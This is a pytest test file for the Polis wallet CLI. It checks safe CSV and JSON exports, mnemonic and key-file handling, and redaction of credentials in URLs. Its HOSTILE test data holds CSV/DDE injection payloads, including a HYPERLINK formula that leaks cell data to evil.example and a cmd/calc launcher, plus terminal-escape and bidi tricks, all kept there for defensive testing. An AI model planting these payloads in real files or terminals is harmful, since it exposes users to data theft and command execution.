"""Safe output and safe files: exports of strangers' text, new mnemonics, secret files, URLs with
credentials, the demo lock, JSON errors, passphrase retries on a terminal, amounts as strings."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import select
import stat
import subprocess
import time
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import JUNK_MNEMONIC, PASSPHRASE
from wallet.cache import open_archive, store

HOSTILE = {
    "formula": "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "osc52": "\x1b]52;c;ZXZpbA==\x07copied",
    "title": "\x1b]0;pwned\x07title \x1b[2J\x1b[H",
    "bidi": "safe\u202eexe.txt",
    "c1": "one\x9b31mtwo",
}


def _fill_hostile() -> None:
    with open_archive() as ar, ar.conn:
        store.upsert_source(ar, "devnet/a", network="devnet", family="evm", kind="oz", extra={})
        for i, (name, text) in enumerate(HOSTILE.items()):
            store.upsert_proposal(ar, "devnet/a", str(1000 + i), {"title": text, "body": text + "\nsecond line",
                                                                 "status": "active", "proposer": name})
            store.insert_votes(ar, [("devnet/a", str(1000 + i), "0x" + f"{i:02x}" * 20, "for", "1", text, i,
                                     "0xab", 0, 1)])


# --- item 6: exports ------------------------------------------------------------------------------------

@pytest.mark.parametrize("what", ["votes", "proposals"])
def test_csv_export_is_safe_for_terminals_and_spreadsheets(cli: Any, tmp_path: Path, what: str) -> None:
    _fill_hostile()
    for r_out in (cli("export", what).out, _file_export(cli, tmp_path, what)):
        r_out = r_out.replace("\r\n", "\n")  # CSV's own CRLF line ends (RFC 4180) are no stranger's text
        assert not any(ch in r_out for ch in ("\x1b", "\x07", "\r", "\u202e", "\x9b")), repr(r_out[:200])
        rows = list(csv.DictReader(io.StringIO(r_out)))
        assert len(rows) == len(HOSTILE)
        cells = [c for row in rows for k, c in row.items() if k in ("reason", "title", "body")]
        for c in cells:
            assert not c.startswith(("=", "+", "-", "@", "\t", "\r")), c
        texts = {c for c in cells}
        assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")" in texts
        assert "'-2+3" in texts and "'@SUM(1+1)" in texts and "'\t=1+1" in texts
        assert any(c.startswith("'=1+1") for c in texts)  # the CR went, the formula stayed neutralised
        assert "copied" in texts and "safeexe.txt" in texts


def _file_export(cli: Any, tmp_path: Path, what: str) -> str:
    out = tmp_path / f"{what}.csv"
    out.write_text("old content")  # an existing regular file is replaced, whole
    assert cli("export", what, "-o", str(out)).code == 0
    assert not list(tmp_path.glob(f".{what}.csv.*"))  # no temp file left beside it
    return out.read_text()


def test_json_export_escapes_instead_of_dropping(cli: Any) -> None:
    _fill_hostile()
    raw = cli("export", "votes", "--format", "json").out
    assert not any(ch in raw for ch in ("\x1b", "\x07", "\r", "\u202e", "\x9b"))
    reasons = {v["reason"] for v in json.loads(raw)}
    assert set(HOSTILE.values()) == reasons  # the data itself is intact, only its encoding is safe


def test_export_to_a_symlink_or_device_is_refused(cli: Any, tmp_path: Path) -> None:
    _fill_hostile()
    target = tmp_path / "real.csv"
    target.write_text("keep")
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    for path in (link, Path("/dev/null")):
        r = cli("export", "votes", "-o", str(path))
        assert r.code == 2 and "cannot write" in r.err
    assert target.read_text() == "keep"


# --- item 8: keys new -------------------------------------------------------------------------------------

def _words_in(text: str) -> int:
    return sum(1 for w in JUNK_MNEMONIC.split()[:1] if w in text) + text.count(" 1. ")


def test_keys_new_never_prints_the_mnemonic_into_a_pipe(cli: Any, env_passphrase: Path, tmp_path: Path) -> None:
    piped = cli("keys", "new", "a")
    assert piped.code == 0 and " 1. " not in piped.out and "24. " not in piped.out
    assert "keys export a --out" in piped.err
    shown = cli("keys", "new", "b", "--show")
    assert shown.code == 0 and "24. " in shown.out
    backup = tmp_path / "c.words"
    written = cli("keys", "new", "c", "--out", str(backup))
    assert written.code == 0 and "24. " not in written.out and " 1. " not in written.out
    assert stat.S_IMODE(backup.stat().st_mode) == 0o600
    words = backup.read_text().split()
    assert len(words) == 24
    assert cli("keys", "export", "c", "--yes").out.split() == words
    again = cli("keys", "new", "d", "--out", str(backup))  # an existing file: refused, nothing created
    assert again.code == 2 and "already exists" in again.err
    assert "d" not in [a["name"] for a in cli("keys", "list", "--json").json()]
    assert cli("keys", "new", "e", "--verify").code == 3  # --verify needs a terminal
    assert cli("keys", "new", "f", "--show", "--json").code == 2


def _run_tty(argv: list[str], answers: list[str], env: dict[str, str], prompt: bytes | tuple[bytes, ...],
             timeout: float = 60.0) -> tuple[int, str]:
    """Run `argv` on a pseudo-terminal, typing one answer after each prompt (any of `prompt`)."""
    prompts = prompt if isinstance(prompt, tuple) else (prompt,)
    pid, fd = pty.fork()
    if pid == 0:  # pragma: no cover (the child)
        os.execve(argv[0], argv, env)
    out, pending, answered = b"", list(answers), 0
    deadline = time.monotonic() + timeout
    try:
        while time.monotonic() < deadline:
            ready, _, _ = select.select([fd], [], [], 0.1)
            if ready:
                try:
                    chunk = os.read(fd, 4096)
                except OSError:
                    break
                if not chunk:
                    break
                out += chunk
            if pending and sum(out.count(p) for p in prompts) > answered and out.rstrip().endswith((b":", b"\xa6")):
                time.sleep(0.2)  # getpass switches echo off after the prompt is written
                os.write(fd, pending.pop(0).encode() + b"\n")
                answered += 1
        else:
            os.kill(pid, 9)
    finally:
        _, status = os.waitpid(pid, 0)
        os.close(fd)
    return os.waitstatus_to_exitcode(status), out.decode(errors="replace")


def test_keys_new_verify_keeps_the_words_out_of_the_scrollback(polis_bin: str, passphrase_file: Path) -> None:
    env = {**os.environ, "POLIS_PASSPHRASE_FILE": str(passphrase_file), "TERM": "xterm"}
    code, screen = _run_tty([polis_bin, "keys", "new", "v", "--words", "12", "--verify"], ["", "x", "x", "x"], env,
                            prompt=(b"Enter to verify", b"Word #"))
    assert "\x1b[?1049h" in screen and "\x1b[?1049l" in screen  # shown on the alternate screen only
    shown, _, after = screen.partition("\x1b[?1049l")
    assert " 1. " in shown and " 1. " not in after
    assert code == 2 and "does not match" in after


# --- item 9: keys export --out ------------------------------------------------------------------------------

def test_keys_export_out_writes_only_new_regular_files(cli: Any, env_passphrase: Path, tmp_path: Path) -> None:
    assert cli("keys", "import", "a", "--mnemonic", stdin=JUNK_MNEMONIC).code == 0
    existing = tmp_path / "existing.txt"
    existing.write_text("precious")
    target = tmp_path / "target.txt"
    target.write_text("do not replace")
    link = tmp_path / "link.txt"
    link.symlink_to(target)
    dangling = tmp_path / "dangling.txt"
    dangling.symlink_to(tmp_path / "nowhere.txt")
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    for path, needle in ((existing, "already exists"), (link, "symbolic link"), (dangling, "symbolic link"),
                         (tmp_path, "folder"), (fifo, "not a regular file"), (Path("/dev/null"), "not a regular"),
                         (tmp_path / "no" / "x.txt", "does not exist")):
        r = cli("keys", "export", "a", "--out", str(path))
        assert r.code == 2 and needle in r.err, (path, r.err)
    assert existing.read_text() == "precious" and target.read_text() == "do not replace"
    assert not (tmp_path / "nowhere.txt").exists()
    new = tmp_path / "new.txt"
    assert cli("keys", "export", "a", "--out", str(new)).code == 0
    assert new.read_text().strip() == JUNK_MNEMONIC and stat.S_IMODE(new.stat().st_mode) == 0o600


# --- item 10: URLs with credentials ------------------------------------------------------------------------------

SECRET_URL = "http://alice:hunter2@127.0.0.1:9/v3/0123456789abcdef0123456789abcdef?apikey=sk-live-42"
SECRETS = ("hunter2", "0123456789abcdef0123456789abcdef", "sk-live-42", "alice")


def test_credentials_in_node_urls_never_shown_or_logged(polis_bin: str, polis_home: Path) -> None:
    env = {**os.environ, "POLIS_LOG_LEVEL": "DEBUG"}

    def polis(*argv: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([polis_bin, *argv], capture_output=True, text=True, env=env, timeout=60)

    assert polis("networks", "add", "private", "--chain-id", "5", "--rpc", SECRET_URL).returncode == 0
    outputs = [polis("networks", "show", "private"), polis("networks", "show", "private", "--json"),
               polis("networks", "list"), polis("networks", "list", "--json"),
               polis("networks", "show", "private", "--check"),
               polis("networks", "add", "private/dao", "--governor", "0x" + "11" * 20, "--token", "0x" + "22" * 20),
               polis("vote", "1234", "for", "-n", "private/dao", "--rpc", SECRET_URL, "--yes", "--dry-run")]
    text = "".join(r.stdout + r.stderr for r in outputs)
    text += (polis_home / "data" / "polis.log").read_text()
    assert "127.0.0.1:9" in text  # the host is still shown: only the secrets go
    for s in SECRETS:
        assert s not in text, s
    assert "***" in text
    cfg = polis_home / "config" / "networks.toml"
    assert stat.S_IMODE(cfg.stat().st_mode) == 0o600 and stat.S_IMODE(cfg.parent.stat().st_mode) == 0o700
    assert "hunter2" in cfg.read_text()  # the file itself keeps the URL: Polis needs it


def test_snapshot_api_key_is_masked(cli: Any) -> None:
    from wallet import networks

    networks.set_user_table("snapshot", {"extra": {**networks.get_network("snapshot").extra,
                                                   "api_key": "sk-snap-secret"}})
    for r in (cli("networks", "show", "snapshot"), cli("networks", "show", "snapshot", "--json")):
        assert r.code == 0 and "sk-snap-secret" not in r.out and "***" in r.out
    assert "SNAPSHOT_API_KEY" in cli("networks", "show", "snapshot").out  # a variable's name is no secret


def test_redaction_rules() -> None:
    from wallet.urls import redact, redact_text

    assert redact("https://u:p@h.example:8545/x") == "https://***@h.example:8545/x"
    assert redact("https://eth-mainnet.g.alchemy.com/v2/AbCdEfGh12345678ijkl") == \
        "https://eth-mainnet.g.alchemy.com/v2/***"
    assert redact("https://hub.example/graphql?apikey=abc&first=1") == "https://hub.example/graphql?apikey=***&first=1"
    assert redact("https://rest-akash.ecostake.com") == "https://rest-akash.ecostake.com"
    assert redact("wss://entrypoint-finney.opentensor.ai:443") == "wss://entrypoint-finney.opentensor.ai:443"
    assert redact_text("GET http://a:b@[::1]:8545/ failed") == "GET http://***@[::1]:8545/ failed"
    from wallet.errors import NodeUnreachable

    assert "hunter2" not in str(NodeUnreachable(f"node {SECRET_URL} is unreachable"))


def test_third_party_loggers_stay_quiet(polis_bin: str, polis_home: Path) -> None:
    code = ("import logging; from wallet.cli.main import _setup_logging; _setup_logging(); "
            "print(*(logging.getLogger(n).getEffectiveLevel() for n in ('httpx', 'websockets')))")
    out = subprocess.run([str(Path(polis_bin).with_name("python")), "-c", code], capture_output=True, text=True,
                         env={**os.environ, "POLIS_LOG_LEVEL": "DEBUG"}, timeout=60).stdout.split()
    assert out == ["30", "30"]


# --- item 17: two demos at once -------------------------------------------------------------------------------------

def test_a_second_demo_on_the_same_home_stops_with_a_clear_message(polis_bin: str, polis_home: Path) -> None:
    from wallet.paths import FileLock

    home = polis_home / "data" / "demo"
    home.mkdir(parents=True)
    (home / "marker").write_text("the first demo's data")
    lock = FileLock(home.parent / ".demo.lock")
    assert lock.acquire()  # stands in for a running demo (flock is per open file, so a child conflicts)
    try:
        r = subprocess.run([polis_bin, "demo", "--headless"], capture_output=True, text=True, timeout=120)
        assert r.returncode == 2 and "another 'polis demo'" in r.stderr and f"pid {os.getpid()}" in r.stderr
        assert "POLIS_DEMO_HOME" in r.stderr and (home / "marker").exists()
    finally:
        lock.release()
    again = FileLock(home.parent / ".demo.lock")
    assert again.acquire()  # released: the next demo may start
    again.release()


# --- issue 15 #14, #15, #16 -------------------------------------------------------------------------------------------

def test_json_errors_are_objects_on_stdout(cli: Any) -> None:
    r = cli("proposals", "list", "-n", "devnett", "--json")
    assert r.code == 2 and r.err == ""
    doc = r.json()["error"]
    assert doc["code"] == "bad_input" and doc["exit_code"] == 2 and "devnett" in doc["message"]
    usage = cli("proposals", "list", "--limit", "0", "--json")
    assert usage.code == 2 and usage.json()["error"]["code"] == "usage" and usage.err == ""
    needs = cli("vote", "1234", "for", "--json", "-n", "devnet/none")
    assert needs.code == 2 and needs.json()["error"]["message"]
    plain = cli("proposals", "list", "-n", "devnett")
    assert plain.out == "" and plain.err.startswith("error: ")


def test_no_abbreviated_options(cli: Any, env_passphrase: Path) -> None:
    assert cli("keys", "import", "a", "--mnemonic", stdin=JUNK_MNEMONIC).code == 0
    r = cli("keys", "export", "a", "--passphrase", "wrong", "--yes")  # was read as --passphrase-file wrong
    assert r.code == 2 and "unrecognized arguments: --passphrase" in r.err and "wrong" not in r.err
    assert cli("proposals", "list", "--lim", "5").code == 2
    assert cli("proposals", "list", "--limit", "5").code == 0


def test_wrong_passphrase_three_tries_on_a_terminal(polis_bin: str, cli: Any, passphrase_file: Path,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("POLIS_PASSPHRASE_FILE", str(passphrase_file))
    assert cli("keys", "import", "a", "--mnemonic", stdin=JUNK_MNEMONIC).code == 0
    monkeypatch.delenv("POLIS_PASSPHRASE_FILE")
    env = dict(os.environ)
    argv = [polis_bin, "keys", "export", "a", "--format", "private-key"]
    code, screen = _run_tty(argv, ["wrong one", "wrong two", PASSPHRASE], env, prompt=b"Passphrase for a")
    assert code == 0, screen
    assert screen.count("wrong passphrase; try again") == 2 and "1 try left" in screen
    assert "0xac0974bec39a17e36ba4a6b4d238ff944bacb478cbed5efcae784d7bf4f2ff80" in screen
    code, screen = _run_tty(argv, ["no", "no", "no", PASSPHRASE], env, prompt=b"Passphrase for a", timeout=30)
    assert code == 1 and screen.count("Passphrase for a") == 3 and "wrong passphrase for account" in screen
    wrong = passphrase_file.with_name("wrong.txt")
    wrong.write_text("not it at all")
    once = subprocess.run([*argv, "--passphrase-file", str(wrong), "--yes"], capture_output=True, text=True,
                          env=env, timeout=60, stdin=subprocess.DEVNULL)
    assert once.returncode == 1 and "try again" not in once.stderr  # a file is tried once, no prompt


def test_plan_json_amounts_are_strings(cli: Any, anvil: Any, dao: Any, passphrase_file: Path,
                                       monkeypatch: pytest.MonkeyPatch) -> None:
    from tests.conftest import add_devnet_dao
    from wallet.devnet.seed import fund_and_delegate, seed_dao

    monkeypatch.setenv("POLIS_PASSPHRASE_FILE", str(passphrase_file))
    r = cli("keys", "import", "me", "--mnemonic", "--json", stdin=JUNK_MNEMONIC)
    me = r.json()["addresses"]["evm"]
    dep = dao("oz")
    fund_and_delegate(anvil, dep, [me], 10**21)
    seed = seed_dao(anvil, dep, n_voters=4, with_states=False)
    src = add_devnet_dao(anvil.url, dep)
    assert cli("sync", src).code == 0
    dry = cli("vote", f"{src}:{seed.proposals['active']}", "for", "--dry-run", "--json")
    assert dry.code == 0, dry.err
    fee = dry.json()["plan"]["fee_estimate"]
    assert isinstance(fee, str) and int(fee) > 0


def test_tui_network_rows_show_urls_redacted(cli: Any) -> None:
    from wallet.health import check_network, network_rows

    assert cli("networks", "add", "private", "--chain-id", "5", "--rpc", SECRET_URL).code == 0
    row = next(r for r in network_rows() if r.key == "private")
    health = check_network("private", timeout=1.0)
    for shown in (row.url, health.url, health.error):
        assert not any(s in shown for s in SECRETS), shown
    assert row.url.startswith("http://***@127.0.0.1:9/v3/***")


def test_batch_plan_errors_under_json_carry_the_error_object(cli: Any, tmp_path: Path) -> None:
    plan = tmp_path / "p.json"
    plan.write_text('{"version": 1, "actions": [], "actions": []}')
    r = cli("batch", "check", str(plan), "--json")
    assert r.code == 2 and r.err == ""
    doc = r.json()
    assert doc["ok"] is False and doc["errors"][0]["line"] == 1
    assert doc["error"]["code"] == "plan_error" and "duplicate key" in doc["error"]["message"]
